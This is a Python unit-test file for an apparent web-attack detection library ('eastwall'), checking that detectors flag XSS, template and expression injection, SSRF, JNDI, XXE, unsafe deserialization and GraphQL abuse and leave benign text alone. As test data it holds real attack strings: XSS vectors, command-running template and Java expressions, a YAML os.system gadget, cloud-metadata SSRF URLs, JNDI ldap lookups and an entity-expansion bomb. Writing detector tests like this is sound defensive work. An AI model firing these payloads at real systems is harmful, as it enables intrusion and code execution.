"""Confirmers of attacks on pages, templates, URLs and objects: constructs they take, text they leave, linear work on any input."""

from __future__ import annotations

import json
import time
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.unit.detections.detection_cases import PREFILTER, facts_of, findings, in_query, request

from eastwall.detections.crlf_injection.detector import splitting
from eastwall.detections.cross_site_scripting import script
from eastwall.detections.cross_site_scripting.xss import cross_site_scripting
from eastwall.detections.expression_injection.language import expression_injection
from eastwall.detections.graphql_abuse.detector import judged, shape
from eastwall.detections.jndi_injection.lookup import jndi_injection
from eastwall.detections.prototype_pollution.detector import pollution
from eastwall.detections.scanner_user_agent.detector import scanner
from eastwall.detections.ssi_injection.detector import include
from eastwall.detections.ssrf.detector import forgery
from eastwall.detections.template_injection.expression import template_injection
from eastwall.detections.unsafe_deserialization.formats import serialised
from eastwall.detections.xml_external_entity.declarations import external_entity

Confirmer = Callable[[str], object]

XSS = r"""
<a href="data:application/xhtml+xml,<script>1</script>">x</a>
<svg><style>{src:'<style/onload=this.onload=confirm(1)>'
<style><img src="</style><img src=x onerror=alert(1)//">
<!--<img src="--><img src=x onerror=alert(1)//">
<a href=" &#1; javascript:alert(1)">x</a>
<img "a"><script>alert(1)</script>">
<script>onerror=alert;throw 1</script>
<link rel=canonical accesskey=x onclick=alert(1)>
<x y="z"onfocus=import('//x.example') tabindex=1>
" accesskey=x onclick=alert(1) y="
'onclick=alert(1)//
\"-alert(1)}//
");alert(1);//
')}alert(1);function x(){if('
window["al"+"ert"](1)
(alert)(1)
alert?.(document?.cookie)
Function("ale"+"rt(1)")()
<p style="x:ex/*a*/pression(alert(1))">
<p style="background:url('java\73 cript:alert(1)')">
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
""".strip().splitlines()
NOT_XSS = r"""
<p class="ql-align-center"><strong style="color: rgb(230, 0, 0);">Sale!</strong></p>
<button (click)="save()" [disabled]="form.invalid">Save</button>
const App = () => <div onClick={() => setOn(!on)}>{on ? 'on' : 'off'}</div>
setTimeout(() => save(), 500)
answer = prompt('Give me some input: ')
Use `document.getElementById('a')` to find it
<a href="javascript:;">x</a>
data:image/svg+xml;base64,PHN2Zy8+
"once" = one time
use <script> and </script> with care
""".strip().splitlines()
TEMPLATES = r"""
{{= 7*7 }}
{{ ''['__cla'+'ss__'] }}
{%print(7*7)%}
[[${7*7}]]
~{7*7}::x
$!{x.getClass()}
{if system('id')}{/if}
@System.IO.File.ReadAllText("C:\\x")
{{range.constructor("return 1")()}}
#{7*7}
""".strip().splitlines()
NOT_TEMPLATES = r"""
{{ price * 1.2 }}
{{ formatDate(order.createdAt, 'short') }}
{% assign x = 5 %}{% include 'header' %}
${amount * 100} ${i + 1}/${n}
<%= link_to "Home", root_path %>
#{count + 1}
@(foo) {name} {0} {1:d}
""".strip().splitlines()
EXPRESSIONS = r"""
''.getClass().forName('java.lang.Runtime')
T(org.springframework.util.StreamUtils).copy(x)
class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp
${dns:address|x.example}
Runtime.getRuntime().exec("id");
{${sleep(5)}}
""".strip().splitlines()
NOT_EXPRESSIONS = r"""
at org.apache.catalina.core.StandardWrapper.load(StandardWrapper.java:12)
java.util.concurrent.TimeoutException: waited 5s
new java.util.Date() gives now
%{TIMESTAMP_ISO8601:ts} %{[@metadata][beat]}
the request.getSession() call
""".strip().splitlines()
URLS = r"""
http://0x7f.0x0.0x0.0x1
http://00177.0.0.01
http://[64:ff9b::7f00:1]/
http://[2002:7f00:1::]/
http://127.1.1.1:80\@127.2.2.2:80/
http://localhost#.example.com/
http://app-127-0-0-1.nip.io
http://7f000001.nip.io
http:127.0.0.1
\\169.254.169.254\latest
jar:https://127.0.0.1!/
url:http://127.0.0.1
http://127。0。0。1
""".strip().splitlines()
NOT_URLS = r"""
http://10.20.30.40.example.com/
https://10minutemail.com/
https://127.example.org/
http://orders.default.svc.cluster.local:8080/x
redis://cache:6379/0
https://example.com/localhost
https://[2606:4700::1111]/
see http://127.0.0.1:8000/docs and log in
""".strip().splitlines()
OBJECTS = r"""
O:+4:"User":0:{}
a:1:{i:0;O:3:"Foo":0:{}}
!<tag:yaml.org,2002:python/object/apply:os.system> ["id"]
["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"rmi://x.example/x"}]
/wEyhAcAAQAAAP////8BAAAAAAAAAAwCAAAASVN5c3RlbQ==
""".strip().splitlines()
NOT_OBJECTS = r"""
a:2:{i:0;s:1:"x";i:1;s:1:"y";}
/wEPDwUKMTY1NDU2MTA1MmRk
H4sIAAAAAAAAA8tIzcnJBwCGphA2BQAAAA==
!!binary aGVsbG8=
{"@type":"Product","name":"x"}
wow!!com
""".strip().splitlines()
TAKEN = [
    *((cross_site_scripting, text) for text in XSS),
    *((template_injection, text) for text in TEMPLATES),
    *((expression_injection, text) for text in EXPRESSIONS),
    *((forgery, text) for text in URLS),
    *((serialised, text) for text in OBJECTS),
]
LEFT = [
    *((cross_site_scripting, text) for text in NOT_XSS),
    *((template_injection, text) for text in NOT_TEMPLATES),
    *((expression_injection, text) for text in NOT_EXPRESSIONS),
    *((forgery, text) for text in NOT_URLS),
    *((serialised, text) for text in NOT_OBJECTS),
]


@pytest.mark.parametrize(("confirm", "text"), TAKEN)
def test_takes(confirm: Confirmer, text: str) -> None:
    assert confirm(text)


@pytest.mark.parametrize(("confirm", "text"), LEFT)
def test_leaves(confirm: Confirmer, text: str) -> None:
    assert not confirm(text)


def test_packed_java_is_told_by_its_class() -> None:
    import base64
    import gzip

    data = b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1"
    for text in (base64.b64encode(data), base64.b64encode(gzip.compress(data)), base64.urlsafe_b64encode(data).rstrip(b"=")):
        verdict = serialised(text.decode())
        assert verdict is not None
        assert "java.util.HashMap" in verdict.reason


@pytest.mark.parametrize(
    ("code", "acts", "runs"),
    [
        ("alert(1)", True, True),
        ("save(1)", False, True),
        ("{handleSave}", False, False),
        ("{() => alert(1)}", True, False),
        ("x", False, False),
        ("a=1", False, True),
        ("throw onerror=alert,1", True, True),
        ("[1].find(alert)", True, True),
        ("document.title", False, False),
        ("document.cookie", True, False),
        ("top['al'+'ert'](1)", True, True),
        ("rows['a'](1)", False, True),
    ],
)
def test_what_code_does(code: str, acts: bool, runs: bool) -> None:
    assert bool(script.acts(script.tokens(code))) is acts
    assert script.runs(code) is runs


def test_a_lookup_is_evaluated_from_the_inside_out() -> None:
    spelled = "jndi:ldap://x.example/a"
    for letter in ("${lower:%s}", "${upper:%s}", "${::-%s}", "${env:NONE:-%s}", "${date:'%s'}", "${a:${b:-x}:-%s}"):
        text = "${" + "".join(letter % character if character.isalpha() else character for character in spelled) + "}"
        verdict = jndi_injection(text)
        assert verdict is not None
        assert "ldap" in verdict.reason.lower()
    assert jndi_injection("${" * 60 + "::-j" + "}" * 60 + "ndi:x") is None  # the braces do not hold it together
    assert jndi_injection("${USER:-${lower:nobody}}") is None


def test_entities_are_summed_and_not_expanded() -> None:
    lines = ['<!ENTITY a0 "aaaaaaaaaa">'] + [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 200)]
    start = time.thread_time()
    verdict = external_entity(f"<!DOCTYPE a [{''.join(lines)}]><a>&a199;</a>")
    assert verdict is not None
    assert "grow to" in verdict.reason
    assert time.thread_time() - start < 0.5
    assert external_entity('<!DOCTYPE a [<!ENTITY c "(c)"><!ENTITY d "&c; 2024">]><a>&d;</a>') is None


def test_numbers_of_a_document() -> None:
    numbers = shape('query Q @a @b { x: f(a: "{{{", b: {c: [1]}) { __typename # {{{\n g } y: f { g } }')
    assert (numbers.depth, numbers.aliases, numbers.directives, numbers.introspection) == (2, 2, 2, False)
    assert not judged(numbers)
    assert judged(shape("{ __schema { types { name } } }"))[0].severity == "medium"
    assert judged(shape("{" + " ".join(f"a{n}: login(p: {n})" for n in range(100)) + "}"))[0].confidence == "high"


UNITS = {
    "tags": "<a b=",
    "quotes": "\"'`",
    "script": "<script>",
    "handlers": '" onx=',
    "strings": "';a",
    "comments": "<!--",
    "css": "<p style='/*",
    "entities": "&#x6a;",
    "dollars": "${",
    "braces": "{{",
    "mixed braces": "${{#{",
    "closing": "}}",
    "arithmetic": "{{7*",
    "lookups": "${lower:",
    "defaults": "${a:-",
    "ssi": "<!--#exec ",
    "esi": "<esi:",
    "lines": "\r\nx:",
    "breaks": "\r\n",
    "doctype": "<!DOCTYPE a [",
    "declared": "<!ENTITY a '&a;",
    "include": "<xi:include ",
    "class": "class.",
    "packages": "java.lang.",
    "proto": "__proto__[",
    "paths": "a.b[",
    "php": 'O:1:"',
    "base64": "rO0AB",
    "pickle": "cos\n",
    "yaml": "!!python/",
    "pairs": '"@type":"',
    "slashes": "http://",
    "users": "a@",
    "dots": "1.",
    "backslashes": "\\",
    "spaces": " ",
    "words": "lorem ipsum ",
    "selections": "{a ",
    "utf-7": "+ADw-",
}
CONFIRMERS: dict[str, Confirmer] = {
    "xss": cross_site_scripting,
    "template": template_injection,
    "expression": expression_injection,
    "jndi": jndi_injection,
    "ssi": include,
    "crlf": splitting,
    "ssrf": forgery,
    "xxe": external_entity,
    "prototype": pollution,
    "object": serialised,
    "graphql": lambda text: judged(shape(text)),
    "scanner": scanner,
}


@pytest.mark.parametrize("confirm", CONFIRMERS.values(), ids=list(CONFIRMERS))
def test_work_is_linear(confirm: Confirmer) -> None:
    """A text of twice the length takes at most some three times as long, and 4,096 characters (one piece) never long."""
    for name, unit in UNITS.items():
        times = []
        for length in (2_048, 4_096, 8_192):
            text = (unit * (length // len(unit) + 1))[:length]
            best = 1.0
            for _ in range(3):
                start = time.thread_time()
                confirm(text)
                best = min(best, time.thread_time() - start)
            times.append(best)
        assert times[1] < 0.06, f"{name}: {times}"
        assert times[2] < 3.2 * times[1] + 0.002, f"{name}: {times}"
        assert times[1] < 3.2 * times[0] + 0.002, f"{name}: {times}"


PIECES = st.sampled_from(
    [
        *UNITS.values(),
        "alert(1)",
        "javascript:",
        "=",
        ">",
        "<",
        "7*7",
        "}",
        "]",
        ")",
        "://",
        "169.254.169.254",
        "\x00",
        "é",
        "\u2028",
    ]
)


@settings(max_examples=400, deadline=None)
@given(st.text(max_size=200) | st.lists(PIECES, max_size=30).map("".join))
def test_confirmers_never_raise(text: str) -> None:
    for name, confirm in CONFIRMERS.items():
        verdict = confirm(text)
        if verdict and name != "graphql":
            reason = verdict.reason  # type: ignore[attr-defined]
            assert reason
            assert reason[0].islower()
            assert not reason.endswith(".")


FAMILIES: dict[Confirmer, str] = {
    cross_site_scripting: "xss",
    template_injection: "template",
    expression_injection: "expression",
    jndi_injection: "jndi",
    include: "ssi",
    splitting: "crlf",
    forgery: "ssrf",
    external_entity: "xml",
    serialised: "serialised",
}


@pytest.mark.parametrize(("confirm", "text"), TAKEN)
def test_the_prefilter_hits_what_is_taken(confirm: Confirmer, text: str) -> None:
    suspects = facts_of(in_query(text)).suspects
    assert any(FAMILIES[confirm] in families and confirm(value.text) for value, families in suspects)


@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES | st.sampled_from([text for _, text in TAKEN]), max_size=6).map("".join))
def test_the_prefilter_hits_whatever_a_confirmer_takes(text: str) -> None:
    families = PREFILTER.families(text.encode())
    for confirm, family in FAMILIES.items():
        assert family in families or not confirm(text)


def test_evidence_shows_no_password() -> None:
    (found,) = [one for one in findings(in_query("http://ann:hunter22@169.254.169.254/")) if one.id == "ssrf"]
    assert found.evidence == "http://ann:***@169.254.169.254/"


def test_a_document_is_shown_without_its_strings_and_one_field_asked_for_often_is_found() -> None:
    tried = ", ".join(f'a{n}: login(user: "ann", password: "hunter{n}") {{ ok }}' for n in range(80))
    found = findings(
        request("POST", "/graphql", {"content-type": "application/json"}, json.dumps({"query": f"mutation {{ {tried} }}"}))
    )
    abuse = [finding for finding in found if finding.id == "graphql-abuse"]
    assert abuse
    assert not [finding for finding in abuse if "hunter" in finding.evidence + finding.message or "ann" in finding.evidence]
    often = findings(
        request("POST", "/graphql", {"content-type": "application/json"}, json.dumps({"query": "{" + "me," * 500 + "}"}))
    )
    assert [finding.id for finding in often] == ["graphql-abuse"]
